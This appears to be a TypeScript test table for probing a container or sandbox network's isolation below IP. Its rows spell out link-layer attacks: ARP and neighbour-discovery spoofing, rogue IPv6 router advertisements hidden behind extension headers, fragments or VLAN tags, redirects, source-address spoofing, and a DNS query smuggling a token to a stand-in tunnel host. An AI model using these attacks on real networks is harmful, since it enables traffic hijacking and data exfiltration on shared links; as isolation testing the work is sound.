// Below IP: who is where, who routes, and frames that a firewall of IP packets may not know for what they are.

import type { Row, Section } from "./table.ts";

const host = { seen: ["host"] } as const;
const hostTables = { seen: ["host's tables"] } as const;
const victimTables = { seen: ["victim's tables"] } as const;
const neighbour = { seen: ["neighbour"] } as const;

const addresses = [
  ["the host's address on the uplink", "host"],
  ["the gateway of an open network", "plaingw"],
  ["the gateway of another guarded network", "othergw"],
] as const;

/** An advertisement to one neighbour, in some shape: what it makes of it shows in its addresses. */
const advertised = (shape: string): string => `r = advertisement(victimll)\n${shape}`;

/** An advertisement in two fragments; `before` are the headers before its own. */
function fragmented(shape: string, size: number, before: string): Row {
  const parts = `(b[${size}:] if at else b[:${size}])`;
  const head = `bytes([${before === "" ? 58 : 60}, 0]) + struct.pack('!HI', at | more, sport)`;
  return {
    name: `router advertisement to a neighbour, ${shape}`,
    attempt: `b = ${before}icmp6(link6(), victimll, 134, bytes(12))\nfor at, more in (0, 1), (${size}, 0): frame(0x86DD, ip6(link6(), victimll, 44, ${head} + ${parts}, 255), dst=victimmac)`,
    seen: ["victim"],
  };
}

/** Of those that a bridge hands up, whatever port they come by: here that of LLDP. */
const reservedMac = "01:80:c2:00:00:0e";

/** Datagrams that get to the host past its bridge. */
export function reservedFrames(): Row[] {
  return [
    {
      name: "to the host, in a frame to a MAC of bridges",
      attempt: `frame4(own(), gw, 17, udp_segment(own(), gw, 8099), dst='${reservedMac}')`,
      ...host,
    },
    {
      name: "to the host, in a frame to a MAC of bridges, IPv6",
      attempt: `frame6(own6(), gw6, 17, udp_segment(own6(), gw6, 8099), dst='${reservedMac}')`,
      ...host,
    },
  ];
}

export const link: Section = {
  title: "Below IP",
  rows: [
    ...addresses.map(
      ([name, address]): Row => ({
        name: `ARP: who has ${name}`,
        attempt: `arp_reply(${address})`,
        seen: ["reply"],
      }),
    ),
    {
      name: "neighbour solicitation: who has the host's address on the uplink",
      attempt: "solicitation_reply(host6)",
      seen: ["reply"],
      closedAnyway: "the kernel answers for addresses of that link only",
    },
    { name: "ARP to the host, of a free address", attempt: "arp(unused, gw, gwmac)", ...hostTables },
    { name: "ARP to the host, of a neighbour's address", attempt: "arp(victim, gw, gwmac)", ...hostTables },
    {
      name: "ARP to a neighbour, of another neighbour's address",
      attempt: "arp(published, victim, victimmac)",
      ...victimTables,
    },
    {
      name: "ARP to a neighbour, of the gateway's address",
      attempt: "arp(gw, victim, victimmac)",
      ...victimTables,
    },
    {
      name: "neighbour solicitation to the host, from a free address",
      attempt: "discover(135, gw6, unused6, gwmac, gw6)",
      ...hostTables,
    },
    {
      name: "neighbour solicitation to the host, from a neighbour's address",
      attempt: "discover(135, gw6, victim6, gwmac, gw6)",
      ...hostTables,
    },
    {
      name: "neighbour solicitation to a neighbour, from another neighbour's address",
      attempt: "discover(135, victim6, published6, victimmac, victim6)",
      ...victimTables,
    },
    {
      name: "neighbour solicitation to a neighbour, from the gateway's address",
      attempt: "discover(135, victim6, gw6, victimmac, victim6)",
      ...victimTables,
    },
    {
      name: "neighbour advertisement to the host, for a neighbour's address",
      attempt:
        "frame6(link6(), gwll, 58, icmp6(link6(), gwll, 136, bytes([32, 0, 0, 0]) + packed(neighbour6) + b'\\2\\1' + own_mac()), hops=255)",
      ...host,
    },
    {
      name: "neighbour advertisement to a neighbour, for another neighbour's address",
      attempt: "time.sleep(1); discover(136, neighbour6, link6(), victimmac, victimll)",
      ...victimTables,
    },
    {
      name: "router advertisement to a neighbour",
      attempt: advertised("frame(0x86DD, r, dst=victimmac)"),
      ...victimTables,
    },
    {
      name: "router advertisement to a neighbour, under the gateway's link-local address",
      attempt: "frame(0x86DD, advertisement(victimll, gwll), dst=victimmac)",
      ...victimTables,
    },
    {
      name: "router advertisement to a neighbour, behind a destination header",
      attempt: advertised(
        "frame(0x86DD, ip6(link6(), victimll, 60, bytes([58, 0, 1, 4, 0, 0, 0, 0]) + r[40:], 255), dst=victimmac)",
      ),
      ...victimTables,
    },
    {
      name: "router advertisement to a neighbour, behind a hop-by-hop header",
      attempt: advertised(
        "frame(0x86DD, ip6(link6(), victimll, 0, bytes([58, 0, 1, 4, 0, 0, 0, 0]) + r[40:], 255), dst=victimmac)",
      ),
      ...victimTables,
    },
    fragmented("its header in the first fragment", 16, ""),
    {
      name: "router advertisement to a neighbour, in a priority tag",
      attempt: advertised("frame(0x8100, tagged(0x86DD, r), dst=victimmac)"),
      ...victimTables,
    },
    {
      name: "router advertisement to a neighbour, in two priority tags",
      attempt: advertised("frame(0x8100, tagged(0x86DD, r, 2), dst=victimmac)"),
      ...victimTables,
    },
    {
      name: "redirect to a neighbour",
      attempt:
        "frame6(link6(), victimll, 58, icmp6(link6(), victimll, 137, bytes(36)), hops=255, dst=victimmac)",
      seen: ["victim"],
    },
    ...reservedFrames(),
    {
      name: "to the internet, in a priority tag",
      attempt: "frame(0x8100, tagged(0x0800, ip4(own(), to, 17, udp_segment(own(), to))))",
      seen: ["wire"],
    },
    {
      name: "to the internet, in two priority tags",
      attempt: "frame(0x8100, tagged(0x0800, ip4(own(), to, 17, udp_segment(own(), to)), 2))",
      seen: ["wire"],
    },
    {
      name: "to the host, in a priority tag, under a neighbour's address",
      attempt: "frame(0x8100, tagged(0x0800, ip4(victim, gw, 17, udp_segment(victim, gw))))",
      ...host,
    },
    {
      name: "an allowed address, in two priority tags, under a neighbour's address",
      attempt:
        "frame(0x8100, tagged(0x0800, ip4(neighbour, '203.0.113.20', 17, udp_segment(neighbour, '203.0.113.20')), 2))",
      seen: ["wire"],
    },
    {
      name: "to a neighbour, in a priority tag, under another neighbour's address",
      attempt:
        "frame(0x8100, tagged(0x0800, ip4(victim, neighbour, 17, udp_segment(victim, neighbour))), dst=neighbourmac)",
      ...neighbour,
    },
    {
      name: "to a neighbour, under another neighbour's address",
      attempt: "frame4(victim, neighbour, dst=neighbourmac)",
      ...neighbour,
    },
    {
      name: "to a neighbour, under the gateway's address",
      attempt: "frame4(gw, neighbour, dst=neighbourmac)",
      ...neighbour,
    },
    {
      name: "to a neighbour, under an address of the internet",
      attempt: "frame4('203.0.113.11', neighbour, dst=neighbourmac)",
      ...neighbour,
    },
    {
      name: "to a neighbour, under another neighbour's IPv6 address",
      attempt: "frame6(victim6, neighbour6, dst=neighbourmac)",
      ...neighbour,
    },
  ],
};

/** Where iptables sees bridges, some hosts put fragments together, and find that the first has too little. */
export const unfilteredLink: Section = {
  title: "Below IP",
  rows: [fragmented("its header in the second fragment", 8, "bytes([58, 0, 1, 4, 0, 0, 0, 0]) + ")],
};

/** Lookups under an address that is another container's. */
export const askedUnderNeighbours: readonly Row[] = (
  [
    ["IPv4", "frame4", "victim", "198.51.100.53"],
    ["IPv6", "frame6", "victim6", "2001:db8:1::53"],
  ] as const
).map(([family, frame, source, server]) => ({
  name: `a question for an allowed name, under a neighbour's ${family} address`,
  attempt: `${frame}(${source}, '${server}', payload=udp_segment(${source}, '${server}', 53, data=dns_question(token.decode() + '.tunnel.example.net')))`,
  seen: ["lookups"],
}));

export const takesFrames: Row = {
  name: "what is meant for a neighbour, by frames under its MAC",
  attempt: "under_mac(taken, takenmac)",
  seen: ["reply"],
};
